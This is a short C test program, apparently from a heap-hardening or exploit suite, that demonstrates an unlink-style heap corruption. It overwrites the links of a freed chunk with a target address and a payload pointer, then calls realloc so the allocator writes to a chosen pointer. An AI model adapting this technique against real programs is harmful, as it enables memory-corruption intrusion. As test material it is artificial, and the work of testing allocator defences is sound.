/*
 * metadata: realloc grows a block into the free chunk after it, whose links were changed after it
 * was freed.
 */
#include "attack.h"

static uint64_t payload[8];
static Word *hook;

int main(void) {
  settle(600);
  void *(*volatile resize)(void *, size_t) = realloc;
  Word *block = allocate(200), *next = allocate(600);
  allocate(40);
  release((void *)next);
  next[0] = (uint64_t)(uintptr_t)&hook - 24;
  next[1] = (uint64_t)(uintptr_t)payload;
  resize((void *)block, 700);
  return hook == (Word *)payload ? GOAL_REACHED : 0;
}
